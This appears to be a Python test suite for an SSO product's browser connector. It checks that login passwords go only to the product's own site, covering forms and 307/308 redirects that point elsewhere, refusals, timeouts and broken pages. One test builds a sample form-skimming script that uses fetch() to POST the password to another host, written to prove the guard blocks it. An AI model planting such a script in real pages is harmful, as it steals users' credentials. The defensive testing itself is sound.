"""The browser's life, and that credentials go to nobody but the product (contract C45, C47)."""

from __future__ import annotations

import asyncio
import contextlib
from typing import Any

import pytest
from browser_walk import (
    FIELDS,
    FORM,
    HOME,
    LOG_IN_FORM,
    PAGE,
    PASSWORD,
    Walker,
)

from imis_sso.connectors.browser.session import BrowserSession
from imis_sso.connectors.browser.tab import Tab
from imis_sso.domain.problems import (
    UpstreamCredentialsRefused,
    UpstreamError,
    UpstreamPageChanged,
    UpstreamTimeout,
    UpstreamUnavailable,
)

pytestmark = [pytest.mark.anyio, pytest.mark.browser]


def passwords_at(received: list[tuple[str, str, str]]) -> int:
    return sum("pa55" in body for _, _, body in received)


@pytest.mark.parametrize(
    ("form", "button"),
    [
        ('action="{other}/in"', ""),
        ('action="/in"', 'formaction="{other}/in"'),
        ('action="javascript:void 0"', ""),
        ('action="/in" target="_blank"', ""),
        ('action="/in"', 'formtarget="_blank"'),
    ],
)
async def test_a_form_that_sends_elsewhere_gets_no_password(
    walker: Walker, browser_site: Any, form: str, button: str
) -> None:
    """Contract C45: a password goes to its own product only; checked before anything is typed."""
    other = browser_site.other
    page = FORM.format(form.format(other=other), FIELDS, button.format(other=other))
    browser_site.pages["/"] = page
    with pytest.raises(UpstreamPageChanged, match="Nothing was sent"):
        await walker.read()
    assert browser_site.elsewhere == []
    assert passwords_at(browser_site.received) == 0


@pytest.mark.parametrize("status", [307, 308])
async def test_a_redirect_takes_no_password_elsewhere(
    walker: Walker, browser_site: Any, status: int
) -> None:
    """RFC 9110 15.4.8: such a redirect makes a browser send the form once more."""
    browser_site.pages["/in"] = f"{status} {browser_site.other}/in"
    with pytest.raises((UpstreamUnavailable, UpstreamError)):
        await walker.read()
    assert passwords_at(browser_site.received) == 1
    assert browser_site.elsewhere == []


async def test_a_script_takes_no_password_elsewhere(walker: Walker, browser_site: Any) -> None:
    steal = f"fetch('{browser_site.other}/in',{{method:'POST',mode:'no-cors',body:'pa55'}})"
    form = FORM.format(f'action="/in" onsubmit="{steal}"', FIELDS, "")
    browser_site.pages["/"] = form
    with contextlib.suppress(UpstreamError, UpstreamPageChanged, UpstreamUnavailable):
        await walker.read()
    assert browser_site.elsewhere == []
    assert passwords_at(browser_site.received) == 1


async def test_the_other_address_would_have_been_reached(
    browser_session: BrowserSession, browser_site: Any
) -> None:
    """So that the silence above is the guard's doing, and not the network's."""
    browser_site.pages["/go"] = "302 " + browser_site.other + "/there"
    browser_site.pages["/there"] = "there"

    async def work(tab: Tab) -> None:
        await tab.load(f"{browser_site.origin}/go")

    with pytest.raises(UpstreamError, match="another address"):
        await browser_session.run(work, 10)
    assert browser_site.elsewhere == [("GET", "/there", "")]


@pytest.mark.parametrize(
    "answer", ["<p>NOPE</p>", '<p role="alert">Wrong for pa55&amp;word+1</p>', ""]
)
async def test_a_refusal_is_recognised_however_it_is_said(
    walker: Walker, browser_site: Any, answer: str
) -> None:
    """Contract C47; silence is a refusal too, because trying again could lock the account out."""
    browser_site.pages["/in"] = answer + LOG_IN_FORM
    with pytest.raises(UpstreamCredentialsRefused) as caught:
        await walker.read()
    assert PASSWORD not in caught.value.detail
    with pytest.raises(UpstreamCredentialsRefused):
        await walker.read()
    assert walker.guard.refused == [PASSWORD]
    assert passwords_at(browser_site.received) == 1


async def test_a_choice_before_the_log_in_is_made(walker: Walker, browser_site: Any) -> None:
    """Product facts 3.5: the sign-in page may ask first how to sign in."""
    browser_site.pages["/"] = '<a href="/form">Use a password</a>'
    browser_site.pages["/form"] = LOG_IN_FORM
    browser_site.pages["/in"] = "303 /home"
    browser_site.pages["/home"] = "welcome"
    with pytest.raises(UpstreamError, match="again right after the log-in"):
        await walker.read()
    assert passwords_at(browser_site.received) == 1


async def test_a_log_in_by_script_is_recognised(walker: Walker, browser_site: Any) -> None:
    """A console may replace its log-in form without loading another page."""
    form = FORM.format("onsubmit=\"this.outerHTML='Welcome';return false\"", FIELDS, "")
    browser_site.pages["/"] = form
    with pytest.raises(UpstreamError, match="again right after the log-in"):
        await walker.read()
    assert walker.guard.refused == []


async def test_a_missing_step_of_the_way_is_named(walker: Walker, browser_site: Any) -> None:
    browser_site.pages["/"] = '<a href="/x">Elsewhere</a><a href="/y">Sections</a>'
    with pytest.raises(UpstreamPageChanged) as caught:
        await walker.read()
    assert '"Section" is missing (the page has "Elsewhere", "Sections"' in caught.value.detail
    assert 'nearest: "Sections"' in caught.value.detail


async def test_a_link_of_the_way_that_leads_away_is_not_followed(
    walker: Walker, browser_site: Any
) -> None:
    browser_site.pages["/"] = f'<a href="{browser_site.other}/section">Section</a>'
    with pytest.raises(UpstreamPageChanged, match="leads away"):
        await walker.read()
    assert browser_site.elsewhere == []


async def test_a_time_out_before_save_is_a_time_out(walker: Walker, browser_site: Any) -> None:
    browser_site.pages["/"] = HOME

    async def work(tab: Tab) -> None:
        await walker.way.open(tab, PAGE)
        await asyncio.sleep(5)

    with pytest.raises(UpstreamTimeout):
        await walker.session.run(work, 0.8)
    assert await walker.read() == "v"


async def test_pages_that_are_none_are_errors(
    browser_session: BrowserSession, browser_site: Any
) -> None:
    async def load(tab: Tab) -> None:
        await tab.load(f"{browser_site.origin}/nothing")

    with pytest.raises(UpstreamError, match="status 404 and no page"):
        await browser_session.run(load, 10)
    browser_site.pages["/restless"] = "<script>location.reload()</script>"

    async def look(tab: Tab) -> None:
        await tab.load(f"{browser_site.origin}/restless")
        for _ in range(200):
            await tab.look()

    with pytest.raises((UpstreamError, UpstreamTimeout)):
        await browser_session.run(look, 3)
    browser_site.pages["/still"] = "<p>still</p>"

    async def rest(tab: Tab) -> None:
        await tab.load(f"{browser_site.origin}/still")

    await browser_session.run(rest, 10)  # or its requests would meet the tests that come after
